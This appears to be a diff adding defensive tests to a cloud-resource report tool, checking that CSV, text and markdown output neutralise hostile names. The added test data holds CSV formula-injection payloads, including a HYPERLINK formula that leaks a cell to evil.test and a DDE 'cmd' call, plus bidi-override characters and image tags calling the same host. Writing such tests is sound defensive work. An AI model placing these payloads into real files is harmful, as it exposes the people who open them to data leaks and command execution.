@@ -7,6 +7,7 @@ import io
 import json
 import re
 from dataclasses import replace
+from itertools import chain
 from pathlib import Path
 from typing import Any
 
@@ -185,6 +186,68 @@ def test_a_hostile_name_moves_no_cursor_and_breaks_no_table() -> None:
     assert line.replace("\\|", "").count("|") == 10
 
 
+HOSTILE = (
+    '=HYPERLINK("http://evil.test/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+    "\u202egnp.exe",
+    "a\ud800b",
+    "<img src=http://evil.test/x>",
+    "![x](http://evil.test/x)",
+)
+
+
+def hostile_everywhere(name: str) -> Snapshot:
+    """A Snapshot each of whose texts from outside is that name."""
+    resource = estate.MACHINE.resource
+    location = replace(resource.location, account_id=name, region=name, zone=name)
+    named = replace(
+        resource,
+        id=name,
+        name=name,
+        location=location,
+        tags=dict.fromkeys(TAGS, name),
+        info=dict.fromkeys(resource.info, name),
+    )
+    failed = Outcome("aws", name, name, "ec2/instance", error=name)
+    return replace(
+        estate.SNAPSHOT,
+        rows=(replace(estate.MACHINE, resource=named),),
+        listings=(failed,),
+        targets=(TargetState(name, "aws", up=False, error=name),),
+    )
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_no_cell_of_a_csv_is_a_formula(name: str) -> None:
+    told = report.as_csv(hostile_everywhere(name), TAGS)
+    assert told.encode()
+    cells = list(chain.from_iterable(csv.reader(io.StringIO(told))))
+    hostile = [cell for cell in cells if name.strip()[-4:] in cell]
+    assert len(hostile) >= 5 or name == HOSTILE[10]
+    for cell in cells:
+        number = re.fullmatch(r"-?[\d.e+-]+", cell) and cell != "-2+3"
+        assert number or cell.lstrip()[:1] not in {*"=+-@\uff1d"}, cell
+        assert cell[:1] not in {"\t", "\r", "\n"}
+
+
+@pytest.mark.parametrize("form", ["text", "markdown"])
+@pytest.mark.parametrize("name", HOSTILE)
+def test_no_report_holds_what_is_not_seen(name: str, form: str) -> None:
+    make = {"text": report.as_text, "markdown": report.as_markdown}[form]
+    told = make(hostile_everywhere(name), TAGS)
+    assert told.encode()
+    assert set("\t\r\x1b\u202e\ud800").isdisjoint(told)
+    if form == "markdown":
+        assert "<img" not in told and "](" not in told
+
+
 def test_tables_align_numbers_to_the_right() -> None:
     section = Section("T", ("name", "W"), (("a", "1,000"), ("bcdef", "2.5")), ("note",))
     assert as_text([section]) == "T\n-\nname       W\na      1,000\nbcdef    2.5\nnote\n"
@@ -277,3 +340,11 @@ def test_a_targets_own_tags_are_shown_instead_of_those_of_all(
     for resource in json.loads(capsys.readouterr().out)["resources"]:
         tags.update(key for key in resource if key.startswith("tag_"))
     assert tags == {"tag_env"}
+
+
+def test_there_is_one_writer_of_csv() -> None:
+    """Whoever writes one elsewhere writes formulas: it goes through csv_text."""
+    sources = Path(report.__file__).parents[1].rglob("*.py")
+    writes = re.compile(r"csv\.writer|DictWriter")
+    writers = [path.name for path in sources if writes.search(path.read_text(encoding="utf-8"))]
+    assert writers == ["csv_text.py"]
